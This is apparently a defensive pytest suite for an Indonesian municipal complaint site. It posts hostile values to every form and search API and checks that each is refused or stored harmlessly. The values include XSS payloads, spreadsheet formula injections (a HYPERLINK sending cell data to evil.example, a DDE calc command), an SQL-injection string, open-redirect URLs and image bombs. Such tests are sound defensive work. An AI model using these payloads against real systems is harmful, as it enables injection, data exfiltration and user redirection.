"""The bad-input corpus: every public form and API of every app gets hostile input.

Each case expects either a refusal (a 4xx, the field's error shown in Indonesian, nothing
stored) or, where accepting is the rule (free text that merely looks like a formula or
markup in a field that takes any text, search queries), a harmless answer: no 5xx, and what
was stored is exactly what was typed. The site (pages, programs, reports) is built once
for the module inside a transaction that is rolled back at the end; every case runs in a
savepoint of its own.
"""

import datetime
import json
import re
import uuid
from dataclasses import dataclass, field
from pathlib import Path

import django
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.html import escape

from wagtail.models import Locale, Page, Site

import polib
import pytest

from complaint_forms.models import Report, ReportEvent, Status
from outreach import links
from outreach.models import (
    AmbassadorActivity,
    AmbassadorApplication,
    ApplicationStatus,
    AssistedReportRequest,
    ProgramKind,
    Registration,
    SchoolSessionRequest,
)
from search.models import AnswerFeedback
from tests import bombs
from tests.complaint_forms.factories import (
    CategoryFactory,
    ReportFactory,
    ReportPageFactory,
    WorkUnitFactory,
)
from tests.factories import HomePageFactory
from tests.outreach.factories import (
    AmbassadorApplicationFactory,
    EventPageFactory,
    ProgramIndexPageFactory,
    ProgramPageFactory,
)
from tests.search.factories import AnswerPageFactory, KnowledgeBaseIndexPageFactory

pytestmark = pytest.mark.django_db

# --- hostile values --------------------------------------------------------------------
NUL = "abc\x00def"
OVERSIZED = "a" * 100_000
INVISIBLE_ONLY = "\u200b\u200c\u200d\u2060\ufeff"
MARKUP = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+62-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
BAD_DATES = ["2026-13-45", "2026-02-30", "0000-00-00", "kemarin", "9999-99-99", "2026-01-05'--"]
BAD_NUMBERS = ["-1", "99999999999999999999", "1e309", "NaN", "abc", "1/2"]
BAD_CHOICES = ["<script>", "x" * 300, "🙂", "' OR 1=1 --"]
BAD_EMAILS = ["not-an-email", "a@b", "<a@b.c>"]
BAD_PHONES = ["=1+1", "0812<script>", "12", "1" * 40]
FILE_BOMBS = {
    "jpeg-12000x12000-header": lambda: bombs.jpeg_claiming(12_000, 12_000),
    "png-64mpx-zeros": lambda: bombs.png_bomb(8_000, 8_000),
    "heic": bombs.heic_header,
    "gif": bombs.gif_image,
    "html-named-jpg": lambda: b"<!DOCTYPE html><script>alert(1)</script>",
    "truncated-jpeg": lambda: b"\xff\xd8\xff\xe0" + b"\x00" * 100,
}


def days_from_today(days):
    return (timezone.localdate() + datetime.timedelta(days=days)).isoformat()


# --- the site, built once --------------------------------------------------------------
@pytest.fixture(scope="module")
def site(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock():
        outer = transaction.atomic()
        outer.__enter__()
        try:
            yield _build_site()
        finally:
            transaction.set_rollback(True)
            outer.__exit__(None, None, None)


def _build_site():
    locales = {
        code: Locale.objects.get_or_create(language_code=code)[0]
        for code, _name in django_settings.LANGUAGES
    }
    root = Page.get_first_root_node()
    home = HomePageFactory(parent=root, slug="beranda", locale=locales["id"])
    Site.objects.filter(is_default_site=True).update(root_page=home, hostname="testserver", port=80)
    report_page = ReportPageFactory(parent=home)
    report_page.save_revision().publish()
    category = CategoryFactory(default_unit=WorkUnitFactory(), locale=locales["id"])
    needs_info = ReportFactory(status=Status.NEEDS_INFO)
    answered = ReportFactory(status=Status.ANSWERED)
    programs = ProgramIndexPageFactory(parent=home)
    school = ProgramPageFactory(parent=programs, slug="sekolah", kind=ProgramKind.SCHOOL)
    duta = ProgramPageFactory(
        parent=programs,
        slug="duta",
        kind=ProgramKind.AMBASSADOR,
        min_age=15,
        max_age=25,
        applications_open=timezone.now() - datetime.timedelta(days=1),
        applications_close=timezone.now() + datetime.timedelta(days=30),
    )
    difabel = ProgramPageFactory(parent=programs, slug="difabel", kind=ProgramKind.DISABILITY)
    event = EventPageFactory(parent=school, slug="acara", capacity=500)
    ambassador = AmbassadorApplicationFactory(program=duta, status=ApplicationStatus.ACCEPTED)
    kb_index = KnowledgeBaseIndexPageFactory(parent=home, locale=locales["id"])
    answer = AnswerPageFactory(parent=kb_index, title="Cara membuat KTP")
    return {
        "report_page": report_page,
        "category": category,
        "needs_info": needs_info,
        "answered": answered,
        "school": school,
        "duta": duta,
        "difabel": difabel,
        "event": event,
        "activity_token": links.AMBASSADOR_LINK.token(ambassador),
        "answer": answer,
    }


# --- the forms -------------------------------------------------------------------------
@dataclass
class Form:
    """One public form: where it posts, a valid submission, and what it stores."""

    url: callable
    valid: callable
    stored: callable
    context: str = "form"
    prefix: str = ""
    text: list = field(default_factory=list)  # free text, any length limit
    required_text: list = field(default_factory=list)  # must hold visible text
    choices: list = field(default_factory=list)
    dates: list = field(default_factory=list)
    numbers: list = field(default_factory=list)
    emails: list = field(default_factory=list)
    phones: list = field(default_factory=list)
    required: list = field(default_factory=list)
    file_field: str = ""
    # Free text where markup and formulas are stored as typed (escaped on output).
    accepts_markup: bool = True
    # The answer to an accepted submission: a redirect to the thanks page, or 200 where
    # the form answers on its own page.
    accepted: int = 302
    # The answer to a JSON body: outreach forms show the empty form again (200), the
    # report form and feedback refuse (400), the tracking forms find no report (404).
    json_body: int = 400


def _complaint(site):
    return {
        "kind": "pengaduan",
        "category": str(site["category"].pk),
        "title": "Lampu jalan mati",
        "description": "Lampu jalan di Jl. A. Yani km 33 mati sejak seminggu.",
        "incident_date": "2026-01-05",
        "kecamatan": "banjarbaru-utara",
        "kelurahan": "Komet",
        "location_detail": "Depan masjid",
        "privacy": "public",
        "reporter_name": "Budi",
        "reporter_email": "budi@example.test",
        "reporter_phone": "081234567890",
        "contact_channel": "email",
        "consent": "on",
        "website": "",
        "idempotency_key": str(uuid.uuid4()),
    }


def _tracking_url(site):
    return site["report_page"].subpage_url("tracking")


def indonesian_reverse(name, *args):
    with translation.override("id"):
        return reverse(name, args=args)


FORMS = {
    "complaint": Form(
        url=lambda site: "/id/laporan/kirim/",
        valid=_complaint,
        stored=lambda: Report.objects.count(),
        context="report_form",
        text=["title", "description", "location_detail", "reporter_name", "accessibility_needs"],
        required_text=["title", "description"],
        choices=["kind", "category", "kecamatan", "kelurahan", "privacy", "contact_channel"],
        dates=["incident_date"],
        emails=["reporter_email"],
        phones=["reporter_phone"],
        required=["kind", "title", "description", "privacy", "consent"],
        file_field="attachments",
        accepts_markup=False,
    ),
    "citizen-reply": Form(
        url=_tracking_url,
        json_body=404,
        valid=lambda site: {
            "kode": site["needs_info"].tracking_code,
            "action": "reply",
            "reply-message": "Alamatnya Jl. Mawar 3.",
        },
        stored=lambda: ReportEvent.objects.count(),
        context="reply_form",
        prefix="reply",
        text=["message"],
        required_text=["message"],
        required=["message"],
        accepts_markup=False,
    ),
    "citizen-appeal": Form(
        url=_tracking_url,
        json_body=404,
        valid=lambda site: {
            "kode": site["answered"].tracking_code,
            "action": "appeal",
            "appeal-message": "Jawabannya belum menyelesaikan masalah.",
        },
        stored=lambda: ReportEvent.objects.count(),
        context="appeal_form",
        prefix="appeal",
        text=["message"],
        required_text=["message"],
        required=["message"],
        accepts_markup=False,
    ),
    "citizen-rating": Form(
        url=_tracking_url,
        json_body=404,
        valid=lambda site: {
            "kode": site["answered"].tracking_code,
            "action": "rate",
            "rate-rating": "4",
            "rate-comment": "",
        },
        stored=lambda: ReportEvent.objects.count(),
        context="rate_form",
        prefix="rate",
        text=["comment"],
        choices=["rating"],
        numbers=["rating"],
        required=["rating"],
        accepts_markup=False,
    ),
    "event-registration": Form(
        url=lambda site: site["event"].subpage_url("register"),
        json_body=200,
        valid=lambda site: {
            "name": "Rina Wati",
            "affiliation": "SMAN 1 Banjarbaru",
            "phone": "081234567890",
            "email": "rina@example.org",
            "under_18": "no",
            "consent": "on",
            "website": "",
        },
        stored=lambda: Registration.objects.count(),
        text=["name", "affiliation", "accessibility_needs"],
        required_text=["name"],
        choices=["under_18"],
        dates=["date_of_birth"],
        emails=["email"],
        phones=["phone"],
        required=["name", "under_18", "consent"],
    ),
    "school-request": Form(
        url=lambda site: site["school"].subpage_url("school_request"),
        json_body=200,
        valid=lambda site: {
            "school_name": "SMPN 9 Banjarbaru",
            "npsn": "30300999",
            "level": "smp",
            "kecamatan": "landasan-ulin",
            "address": "Jl. A. Yani km 30",
            "contact_name": "Ibu Rina",
            "contact_role": "Wakasek Kesiswaan",
            "phone": "081234567890",
            "email": "sekolah@example.org",
            "expected_students": "120",
            "grades": "7-9",
            "preferred_date_1": days_from_today(20),
            "preferred_date_2": days_from_today(21),
            "consent": "on",
            "website": "",
        },
        stored=lambda: SchoolSessionRequest.objects.count(),
        text=[
            "school_name",
            "address",
            "contact_name",
            "contact_role",
            "grades",
            "hall_size",
            "equipment",
            "accessibility_needs",
        ],
        required_text=["school_name", "contact_name", "address"],
        choices=["level", "kecamatan", "npsn"],
        dates=["preferred_date_1", "preferred_date_2", "preferred_date_3"],
        numbers=["expected_students"],
        emails=["email"],
        phones=["phone"],
        required=["school_name", "npsn", "level", "kecamatan", "phone", "email", "consent"],
    ),
    "ambassador-application": Form(
        url=lambda site: site["duta"].subpage_url("ambassador_apply"),
        json_body=200,
        valid=lambda site: {
            "name": "Dimas Pratama",
            "date_of_birth": "2005-03-04",
            "institution": "Universitas Lambung Mangkurat",
            "kecamatan": "banjarbaru-selatan",
            "phone": "081234567890",
            "email": "dimas@example.org",
            "motivation": "Ingin membantu warga melapor.",
            "consent": "on",
            "website": "",
        },
        stored=lambda: AmbassadorApplication.objects.count(),
        text=["name", "institution", "motivation", "activities", "social_media", "guardian_name"],
        required_text=["name", "motivation"],
        choices=["kecamatan"],
        dates=["date_of_birth"],
        emails=["email"],
        phones=["phone"],
        required=["name", "date_of_birth", "kecamatan", "phone", "email", "consent"],
    ),
    "ambassador-activity": Form(
        url=lambda site: f"/outreach/ambassador/{site['activity_token']}/activity/",
        json_body=200,
        accepted=200,
        valid=lambda site: {
            "date": days_from_today(-1),
            "title": "Sosialisasi di SMAN 1",
            "kecamatan": "cempaka",
            "sessions_held": "1",
            "people_reached": "40",
            "schools_reached": "1",
            "website": "",
        },
        stored=lambda: AmbassadorActivity.objects.count(),
        text=["title"],
        required_text=["title"],
        choices=["kecamatan"],
        dates=["date"],
        numbers=["sessions_held", "people_reached", "schools_reached"],
        required=["date", "title", "kecamatan", "people_reached"],
        file_field="photo",
    ),
    "assisted-reporting": Form(
        url=lambda site: site["difabel"].subpage_url("assisted_reporting"),
        json_body=200,
        valid=lambda site: {
            "name": "Pak Darto",
            "method": "phone",
            "phone": "081234567890",
            "kecamatan": "cempaka",
            "preferred_time": "Pagi hari kerja",
            "needs": "Saya tuna netra.",
            "consent": "on",
            "website": "",
        },
        stored=lambda: AssistedReportRequest.objects.count(),
        text=["name", "address", "preferred_time", "needs"],
        required_text=["name"],
        choices=["method", "kecamatan"],
        emails=["email"],
        phones=["phone"],
        required=["name", "method", "consent"],
    ),
    "answer-feedback": Form(
        url=lambda site: indonesian_reverse("search_answer_feedback", site["answer"].pk),
        valid=lambda site: {"helpful": "yes", "comment": ""},
        stored=lambda: AnswerFeedback.objects.count(),
        context="feedback_form",
        text=["comment"],
        choices=["helpful"],
        required=["helpful"],
    ),
}


def _cases():
    """(form, field, label, value, expect) for every hostile value that applies."""
    for name, spec in FORMS.items():
        for fld in spec.text:
            yield name, fld, "nul", NUL, "refuse"
            yield name, fld, "100kb", OVERSIZED, "refuse"
            for n, value in enumerate(MARKUP):
                yield name, fld, f"markup{n}", value, "accept" if spec.accepts_markup else "refuse"
        for fld in spec.required_text:
            yield name, fld, "invisible-only", INVISIBLE_ONLY, "refuse"
        if spec.text:
            for n, value in enumerate(FORMULAS):
                yield name, spec.text[0], f"formula{n}", value, "accept"
        for fld in spec.choices:
            for n, value in enumerate(BAD_CHOICES):
                yield name, fld, f"bad-choice{n}", value, "refuse"
        for fld in spec.dates:
            for n, value in enumerate(BAD_DATES):
                yield name, fld, f"bad-date{n}", value, "refuse"
        for fld in spec.numbers:
            for n, value in enumerate(BAD_NUMBERS):
                yield name, fld, f"bad-number{n}", value, "refuse"
        for fld in spec.emails:
            for n, value in enumerate(BAD_EMAILS):
                yield name, fld, f"bad-email{n}", value, "refuse"
        for fld in spec.phones:
            for n, value in enumerate(BAD_PHONES):
                yield name, fld, f"bad-phone{n}", value, "refuse"
        for fld in spec.required:
            yield name, fld, "missing", None, "refuse"


CASES = list(_cases())


# --- checking "clear and translated" ---------------------------------------------------
def _english_messages():
    """Every English message that has an Indonesian translation, as a pattern: an error
    that still matches one was shown untranslated."""
    exact, patterns = set(), []
    catalogues = [
        Path(django_settings.BASE_DIR) / "site_core/locale/id/LC_MESSAGES/django.po",
        Path(django.__file__).parent / "conf/locale/id/LC_MESSAGES/django.po",
    ]
    for path in catalogues:
        for entry in polib.pofile(str(path)):
            if not entry.msgstr or entry.msgstr == entry.msgid or entry.obsolete:
                continue
            if "%" in entry.msgid:
                pattern = re.sub(r"%(\([a-z_]+\))?[sdr]", "(.+?)", re.escape(entry.msgid))
                patterns.append(re.compile(pattern.replace(r"\%", "%")))
            else:
                exact.add(entry.msgid)
    return exact, patterns


ENGLISH = _english_messages()


def assert_indonesian(message):
    exact, patterns = ENGLISH
    assert message.strip(), "empty error message"
    assert message not in exact, f"untranslated error: {message!r}"
    for pattern in patterns:
        assert not pattern.fullmatch(message), f"untranslated error: {message!r}"


def _post(client, spec, site, data, files=None):
    url = spec.url(site)
    payload = {**data, **(files or {})}
    with translation.override("id"):
        return client.post(url, payload, HTTP_ACCEPT_LANGUAGE="id")


def _field_errors(response, spec, fld):
    form = response.context[spec.context]
    return form.errors.get(fld, [])


# --- the cases -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("form_name", "fld", "label", "value", "expect"),
    CASES,
    ids=[f"{c[0]}-{c[1]}-{c[2]}" for c in CASES],
)
def test_hostile_field_value(client, site, form_name, fld, label, value, expect):
    spec = FORMS[form_name]
    key = f"{spec.prefix}-{fld}" if spec.prefix else fld
    data = spec.valid(site)
    if value is None:
        data.pop(key, None)
    else:
        data[key] = value
    before = spec.stored()
    response = _post(client, spec, site, data)
    assert response.status_code < 500
    html = response.content.decode()
    if expect == "refuse":
        assert response.status_code == 400, response.status_code
        errors = _field_errors(response, spec, fld)
        assert errors, f"no error on {fld}"
        for message in errors:
            assert_indonesian(message)
            assert escape(message) in html
        assert spec.stored() == before
    else:
        assert response.status_code == spec.accepted, response.status_code
        assert spec.stored() == before + 1
    assert "<script>alert(1)" not in html and "onerror=alert(1)>" not in html


@pytest.mark.parametrize("form_name", list(FORMS))
def test_the_valid_submission_is_accepted(client, site, form_name):
    """The corpus proves something only if each form accepts its valid submission."""
    spec = FORMS[form_name]
    before = spec.stored()
    response = _post(client, spec, site, spec.valid(site))
    assert response.status_code == spec.accepted
    assert spec.stored() == before + 1


FILE_FORMS = [name for name, spec in FORMS.items() if spec.file_field]


@pytest.mark.parametrize("bomb", FILE_BOMBS, ids=list(FILE_BOMBS))
@pytest.mark.parametrize("form_name", FILE_FORMS)
def test_hostile_file(client, site, form_name, bomb):
    spec = FORMS[form_name]
    upload = SimpleUploadedFile("foto.jpg", FILE_BOMBS[bomb](), content_type="image/jpeg")
    before = spec.stored()
    response = _post(client, spec, site, spec.valid(site), {spec.file_field: upload})
    assert response.status_code == 400
    errors = _field_errors(response, spec, spec.file_field)
    assert errors
    for message in errors:
        assert_indonesian(message)
    assert spec.stored() == before
    assert not any(Path(django_settings.MEDIA_ROOT).rglob("*.*"))
    assert not any(Path(django_settings.PRIVATE_MEDIA_ROOT).rglob("*.*"))


@pytest.mark.parametrize("form_name", list(FORMS))
def test_a_json_body_instead_of_a_form_stores_nothing(client, site, form_name):
    """Wrong content type: the form sees no fields and stores nothing (outreach forms
    show the empty form again, the others refuse)."""
    spec = FORMS[form_name]
    before = spec.stored()
    response = client.post(
        spec.url(site), json.dumps(spec.valid(site)), content_type="application/json"
    )
    assert response.status_code == spec.json_body
    assert spec.stored() == before


@pytest.mark.parametrize("form_name", list(FORMS))
def test_a_repeated_field_is_harmless(client, site, form_name):
    """A field sent twice (a list where one value is expected): the last one counts."""
    spec = FORMS[form_name]
    data = spec.valid(site)
    first_text = next(iter(spec.text), None) or next(iter(spec.choices))
    key = f"{spec.prefix}-{first_text}" if spec.prefix else first_text
    data[key] = ["<script>alert(1)</script>", data.get(key, "Teks biasa") or "Teks biasa"]
    before = spec.stored()
    response = _post(client, spec, site, data)
    assert response.status_code == spec.accepted
    assert spec.stored() == before + 1


# --- lookups and APIs: harmless answers ------------------------------------------------
QUERIES = {
    "nul": NUL,
    "100kb": OVERSIZED,
    "invisible-only": INVISIBLE_ONLY,
    "rtl-override": "ktp\u202egnalih",
    "markup": MARKUP[0],
    "formula": FORMULAS[0],
    "sql": "' OR 1=1 --",
    "emoji": "🙂" * 50,
    "lone-surrogate-escape": "%ED%A0%80",
    "percent-noise": "%%%%%",
}


# The search APIs refuse a NUL character; every other query gets an answer (the report
# form's similar-answers box answers with no match).
REFUSED_QUERIES = {("/api/search/", "nul"), ("/api/search/suggest/", "nul")}


@pytest.mark.parametrize("query", QUERIES, ids=list(QUERIES))
@pytest.mark.parametrize(
    "endpoint",
    ["/api/search/", "/api/search/suggest/", "/api/reports/similar-answers/", "/id/cari/"],
)
def test_search_and_suggestions_answer_hostile_queries_harmlessly(client, site, endpoint, query):
    response = client.get(endpoint, {"q": QUERIES[query]})
    assert response.status_code == (400 if (endpoint, query) in REFUSED_QUERIES else 200)
    if endpoint.startswith("/api/"):
        # JSON may echo the query; browsers never render it as a page.
        assert response["Content-Type"].startswith("application/json")
        assert response["X-Content-Type-Options"] == "nosniff"
        response.json()
    else:
        assert b"<script>alert(1)" not in response.content


API_PARAMETERS = {
    "lang-unknown": {"q": "ktp", "lang": "xx"},
    "lang-markup": {"q": "ktp", "lang": "<script>"},
    "lang-list": {"q": "ktp", "lang": ["id", "en"]},
    "page-huge": {"q": "ktp", "page": "99999999999999999999"},
    "page-negative": {"q": "ktp", "page": "-5"},
    "page-nan": {"q": "ktp", "page": "NaN"},
    "category-100kb": {"q": "ktp", "category": OVERSIZED},
    "type-markup": {"q": "ktp", "type": MARKUP[1]},
    "q-missing": {},
}


# The APIs refuse a language they do not serve, and the search API a missing query; the
# search page shows its empty form, and suggestions for nothing are an empty list.
REFUSED_PARAMETERS = {
    ("/api/search/", "lang-unknown"),
    ("/api/search/", "lang-markup"),
    ("/api/search/", "q-missing"),
    ("/api/search/suggest/", "lang-unknown"),
    ("/api/search/suggest/", "lang-markup"),
}


@pytest.mark.parametrize("params", API_PARAMETERS, ids=list(API_PARAMETERS))
@pytest.mark.parametrize("endpoint", ["/api/search/", "/api/search/suggest/", "/id/cari/"])
def test_search_parameters_of_the_wrong_kind_are_harmless(client, site, endpoint, params):
    response = client.get(endpoint, API_PARAMETERS[params])
    assert response.status_code == (400 if (endpoint, params) in REFUSED_PARAMETERS else 200)
    if response.status_code == 400 and endpoint.startswith("/api/"):
        assert_indonesian(response.json()["error"])


@pytest.mark.parametrize("query", QUERIES, ids=list(QUERIES))
def test_tracking_lookup_of_a_hostile_code_finds_nothing(client, site, query):
    response = client.get(_tracking_url(site), {"kode": QUERIES[query]})
    assert response.status_code == 404
    assert b"<script>alert(1)" not in response.content


# (what is posted, the text size kept, where the visitor is sent): unknown values fall
# back to the defaults (normal text, normal contrast), foreign redirects to the home page.
PREFERENCES = {
    "text-markup": ({"text": MARKUP[0]}, "normal", "/"),
    "contrast-100kb": ({"contrast": OVERSIZED}, "normal", "/"),
    "text-nul": ({"text": NUL}, "normal", "/"),
    "next-javascript": ({"text": "large", "next": "javascript:alert(1)"}, "large", "/"),
    "next-other-host": ({"text": "large", "next": "//evil.example/"}, "large", "/"),
    "next-backslash": ({"text": "large", "next": "/\\evil.example/"}, "large", "/"),
    "next-nul": ({"text": "large", "next": "/id/\x00"}, "large", "/id/%00"),
    "list": ({"text": ["large", "<script>"]}, "normal", "/"),  # the last value counts
}


@pytest.mark.parametrize("prefs", PREFERENCES, ids=list(PREFERENCES))
def test_display_preferences_keep_only_known_values_and_local_redirects(client, site, prefs):
    data, expected_text, expected_location = PREFERENCES[prefs]
    response = client.post("/preferences/", data)
    assert response.status_code == 302
    assert response["Location"] == expected_location
    cookie = response.cookies["display"].value
    text, contrast = (part.split("=", 1)[1] for part in cookie.split(";"))
    assert (text, contrast) == (expected_text, "normal")


def test_corpus_size_is_reported(request):
    """Prints how many hostile inputs this module sends: every parametrized case but the
    valid submissions."""
    hostile = [
        item
        for item in request.session.items
        if item.path == request.node.path
        and "[" in item.name
        and not item.name.startswith("test_the_valid_submission")
    ]
    print(f"\nbad-input corpus: {len(hostile)} hostile inputs in this module")  # noqa: T201
    if len(hostile) == len([i for i in request.session.items if "[" in i.name]):
        # The whole module ran: every group of cases is there.
        assert len(hostile) == (
            len(CASES)
            + len(FILE_FORMS) * len(FILE_BOMBS)
            + 2 * len(FORMS)
            + 4 * len(QUERIES)
            + 3 * len(API_PARAMETERS)
            + len(QUERIES)
            + len(PREFERENCES)
        )
